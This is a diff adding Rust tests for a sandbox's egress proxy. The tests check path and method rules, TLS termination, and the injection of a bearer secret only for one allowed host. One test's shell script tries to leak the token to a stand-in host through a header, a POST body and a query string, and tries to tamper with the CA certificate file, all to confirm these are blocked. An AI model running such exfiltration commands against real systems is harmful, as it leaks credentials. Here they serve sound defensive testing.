@@ -1,7 +1,9 @@
 //! The tier without namespaces: no egress, unless a profile accepts a proxy that programs are asked to use.
 
 use super::in_bare;
-use super::support::jail::Ran;
+use super::support::jail::{Jail, Ran};
+use super::support::place::Place;
+use super::world::World;
 
 /// The web, where a proxy is accepted.
 const PROXIED: &str = r#"
@@ -111,5 +113,86 @@ for kind, protocol in ((socket.SOCK_DGRAM, 0), (socket.SOCK_STREAM, 262), (socke
         assert_eq!(ran.text(), expected.join("\n"), "{}", ran.whole());
         let since: Vec<String> = world.log().lines().skip(before).map(str::to_owned).collect();
         assert!(!since.iter().any(|line| line.contains("GET /") && line.contains("HTTP/1.0")), "{since:?}");
+    });
+}
+
+/// The web by rules for requests, and a secret, where a proxy is accepted.
+const RULED: &str = r#"
+summary = "Test."
+extends = "untrusted"
+[egress]
+allow = ["known.wild.example", "good.example:7000"]
+hosts = { "known.wild.example" = "93.184.216.35" }
+[[egress.http]]
+host = "good.example"
+methods = ["GET"]
+paths = ["/api/**", "/headers"]
+inject = { header = "Authorization", secret = "test", format = "Bearer {}" }
+[[egress.http]]
+host = "a.wild.example:80"
+methods = ["GET", "HEAD"]
+paths = ["/api/**"]
+[egress.secrets.test]
+env = "TEST_TOKEN"
+environment = "OUTER_SECRET"
+[require]
+network = "partial"
+limits = "partial"
+processes = "partial"
+lifetime = "partial"
+"#;
+
+fn ruled(world: &World, place: &Place, script: &str) -> Ran {
+    world.profile("bare-ruled", RULED);
+    let jail = Jail::new(place).profile("bare-ruled").patient(80).environment("OUTER_SECRET", "hunter2-of-bare");
+    jail.finish(world.start(place, &jail, &["bash", "-c", script]))
+}
+
+#[test]
+fn requests_are_judged_by_rules_behind_the_proxy_too_and_tls_ends_there() {
+    in_bare(|world, place| {
+        let token = &place.token;
+        let code = "curl -sS -o /dev/null -w '%{http_code} '";
+        let script = format!(
+            "curl -sS https://good.example/api/{token} http://a.wild.example/api/{token}-a http://a.wild.example/api/{token}-b; \
+             python3 -c 'import urllib.request as r; print(r.urlopen(\"https://good.example/api/{token}-python\").read().decode().strip())'; \
+             {code} -X DELETE https://good.example/api/x; {code} https://good.example/no; {code} http://a.wild.example/no; \
+             {code} -X POST http://a.wild.example/api/x; {code} http://a.wild.example/api/../no http://known.wild.example/{token}-other"
+        );
+        let ran = ruled(world, place, &script);
+        let heard = [
+            format!("https good.example GET /api/{token} 0"),
+            format!("http a.wild.example GET /api/{token}-a 0"),
+            format!("http a.wild.example GET /api/{token}-b 0"),
+            format!("https good.example GET /api/{token}-python 0"),
+            format!("403 403 403 403 403 http known.wild.example GET /{token}-other 0\n200"),
+        ];
+        assert_eq!(ran.text(), heard.join("\n"), "{}", ran.whole());
+        assert!(!world.log().contains(" /no "), "{}", world.log());
+        let requests = ran.verdict["denials"].to_string().matches("\"request\"").count();
+        assert!(requests >= 4, "{}", denials(&ran));
+        assert!(ran.verdict["enforcement"].to_string().contains("the gate's port is open on every host"));
+    });
+}
+
+#[test]
+fn a_secret_is_put_in_behind_the_proxy_and_what_stands_for_it_leaves_nowhere_else() {
+    in_bare(|world, place| {
+        let script = "curl -sS https://good.example/headers | grep -i authorization; env | grep -c hunter2; \
+             t() { curl -sS -o /dev/null -w '%{http_code} ' \"$@\"; }; \
+             t -H \"X: $TEST_TOKEN\" https://known.wild.example/leak; t -d \"$TEST_TOKEN\" http://known.wild.example/leak; \
+             t \"http://known.wild.example/leak?$TEST_TOKEN\"; t http://known.wild.example/clean; \
+             echo x >> \"$SSL_CERT_FILE\" || echo kept";
+        let ran = ruled(world, place, script);
+        let text = ran.text();
+        assert!(
+            text.to_lowercase().contains(&format!("authorization: bearer {}", "*".repeat("hunter2-of-bare".len()))),
+            "{}",
+            ran.whole()
+        );
+        assert!(text.contains("\n0\n403 403 403 200 ") && text.ends_with("kept"), "{}", ran.whole());
+        assert!(world.saw("authorization good.example Bearer hunter2-of-bare"));
+        assert!(!world.log().lines().any(|line| line.starts_with("placeholder known.wild.example")), "{}", world.log());
+        assert!(!ran.verdict.to_string().contains("hunter2-of-bare"));
     });
 }
